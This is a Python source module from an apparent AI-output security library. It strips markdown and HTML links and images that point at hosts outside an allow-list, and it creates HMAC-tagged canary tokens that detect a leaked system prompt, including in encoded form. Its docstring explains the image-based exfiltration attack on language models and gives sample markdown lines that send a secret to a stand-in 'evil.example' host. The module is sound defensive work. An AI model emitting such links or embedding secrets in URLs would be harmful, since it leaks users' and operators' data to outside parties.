"""Output hygiene: neutralise exfiltration links; canary tokens for prompt leakage.

**Links.** A model that renders ``![x](https://evil.example/p?d=<secret>)``
sends the secret the moment the image loads; no click needed. Markdown
images, markdown links, reference-style link definitions and HTML ``<img>``,
``<a>``, ``<iframe>`` and ``<script>`` sources that point at a host outside
the allow-list are replaced by a plain note naming the host.

>>> text, hits = neutralize_links("see ![x](https://evil.example/a.png?q=1)", ["docs.example"])
>>> text
'see [image removed: evil.example]'

Apply :func:`neutralize_links` to the model's own answer too before it is
rendered; the result scanner only covers what tools return.

**Canaries.** :class:`Canaries` makes tokens to put in a system prompt; one
seen in a tool result or an outgoing argument means the prompt leaked. A
token carries a keyed tag, so any process with the key recognises it without
a shared list.
"""

from __future__ import annotations

import base64
import binascii
import contextlib
import hashlib
import hmac
import secrets
from collections.abc import Iterable
from urllib.parse import urlsplit

from stockade.scan._base import Hit, compile_re2

__all__ = ["Canaries", "host_allowed", "neutralize_links"]

_IMAGE = compile_re2(r"!\[([^\]\n]*)\]\(\s*<?([^)\s>]+)>?(?:\s+\"[^\"\n]*\")?\s*\)")
_LINK = compile_re2(r"\[([^\]\n]*)\]\(\s*<?([^)\s>]+)>?(?:\s+\"[^\"\n]*\")?\s*\)")
_REFDEF = compile_re2(r"(?m)^[ \t]{0,3}\[([^\]\n]+)\]:[ \t]*<?(\S+?)>?(?:[ \t]+.*)?$")
_HTML = compile_re2(
    r"(?i)<\s*(img|a|iframe|script|link|source|video|audio|embed|object|form)\b[^>]*?"
    r"\b(?:src|href|data|action|srcset|poster)\s*=\s*[\"']?([^\"'\s>]+)[^>]*>"
)
# no word boundaries: a token glued to other text is still a leak (the tag rules out chance)
_CANARY = compile_re2(r"ctk_([0-9a-f]{16})([0-9a-f]{10})")
# a token is 30 characters: encoded it is at least 40 base64 or 60 hex characters
_ENCODED = compile_re2(r"[A-Za-z0-9+/_-]{40,}={0,2}")


def _decodings(run: str) -> list[str]:
    """The texts ``run`` decodes to as base64, URL-safe base64 or hex (if any)."""
    out = []
    body = run.rstrip("=")
    pad = "=" * (-len(body) % 4)
    for decode in (base64.b64decode, base64.urlsafe_b64decode):
        with contextlib.suppress(binascii.Error, ValueError):
            out.append(decode(body + pad).decode("utf-8", "ignore"))
    if len(run) % 2 == 0:
        with contextlib.suppress(ValueError):
            out.append(bytes.fromhex(run).decode("utf-8", "ignore"))
    return out


def _host(url: str) -> str | None:
    """The lower-case host of an absolute or scheme-relative URL, else ``None``."""
    url = url.strip()
    if url.startswith("//"):
        url = "https:" + url
    try:
        parts = urlsplit(url)
    except ValueError:
        return ""  # unparseable: treat as an unknown host
    if parts.scheme.lower() in ("", "mailto", "tel") and not parts.netloc:
        return None  # a relative link or an anchor: stays on the page
    if parts.scheme.lower() == "data":
        return "data:"
    host = (parts.hostname or "").rstrip(".")
    try:
        return host.encode("idna").decode("ascii").lower() if host else ""
    except UnicodeError:
        return host.lower()


def host_allowed(host: str, allow: Iterable[str]) -> bool:
    """Whether ``host`` is in the allow-list (``*.example.com`` is any subdomain, not the apex)."""
    for pattern in allow:
        p = pattern.lower().rstrip(".")
        if p.startswith("*."):
            if host.endswith(p[1:]) and host != p[2:]:
                return True
        elif host == p:
            return True
    return False


def neutralize_links(text: str, allow: Iterable[str] = ()) -> tuple[str, list[Hit]]:
    """Replace images and links to hosts outside ``allow``; return the text and what was removed.

    Hit offsets refer to the input text.
    """
    if "](" not in text and "<" not in text and "]:" not in text:
        return text, []
    allowed = tuple(allow)
    spans: list[tuple[int, int, str, Hit]] = []

    def consider(start: int, end: int, url: str, kind: str, label: str) -> None:
        host = _host(url)
        if host is None or (host and host_allowed(host, allowed)):
            return
        if any(s < end and start < e for s, e, _, _ in spans):
            return
        shown = host or "unknown host"
        if kind == "image":
            note = f"[image removed: {shown}]"
        elif kind == "link":
            note = (
                f"{label} [link removed: {shown}]" if label.strip() else f"[link removed: {shown}]"
            )
        else:
            note = f"[{kind} removed: {shown}]"
        score = 1.0 if kind in ("image", "html") else 0.6
        spans.append((start, end, note, Hit("links", f"outside-{kind}", start, end, score, shown)))

    for m in _IMAGE.finditer(text):
        consider(m.start(), m.end(), m.group(2), "image", m.group(1))
    for m in _HTML.finditer(text):
        consider(m.start(), m.end(), m.group(2), "html", "")
    for m in _LINK.finditer(text):
        consider(m.start(), m.end(), m.group(2), "link", m.group(1))
    for m in _REFDEF.finditer(text):
        consider(m.start(), m.end(), m.group(2), "link-definition", "")
    if not spans:
        return text, []
    spans.sort(key=lambda s: s[0])
    out: list[str] = []
    pos = 0
    for start, end, note, _ in spans:
        out.append(text[pos:start])
        out.append(note)
        pos = end
    out.append(text[pos:])
    return "".join(out), [h for _, _, _, h in spans]


class Canaries:
    """Makes and recognises canary tokens keyed with ``key``.

    >>> c = Canaries(b"k" * 32)
    >>> token = c.new()
    >>> [h.kind for h in c.find(f"the prompt said {token}")]
    ['canary']
    """

    def __init__(self, key: bytes) -> None:
        self._key = hmac.new(key, b"stockade-canary", hashlib.sha256).digest()

    def _tag(self, nonce: str) -> str:
        return hmac.new(self._key, nonce.encode("ascii"), hashlib.sha256).hexdigest()[:10]

    def new(self) -> str:
        """A fresh token to place in a system prompt."""
        nonce = secrets.token_hex(8)
        return f"ctk_{nonce}{self._tag(nonce)}"

    def _plain(self, text: str) -> list[tuple[int, int]]:
        out = []
        if "ctk_" in text:
            for m in _CANARY.finditer(text):
                if hmac.compare_digest(self._tag(m.group(1)), m.group(2)):
                    out.append((m.start(), m.end()))
        return out

    def find(self, text: str) -> list[Hit]:
        """Canary tokens of this key in ``text``, also base64- or hex-encoded.

        Tokens of other keys are ignored. An encoded token is reported at the
        span of the encoded run.
        """
        hits = [
            Hit("canary", "canary", s, e, 1.0, "canary token: leak") for s, e in self._plain(text)
        ]
        budget = 64  # encoded runs decoded per text
        for m in _ENCODED.finditer(text):
            if budget <= 0:
                break
            budget -= 1
            for decoded in _decodings(m.group(0)):
                if self._plain(decoded):
                    hits.append(
                        Hit("canary", "canary", m.start(), m.end(), 1.0, "encoded canary: leak")
                    )
                    break
        return hits
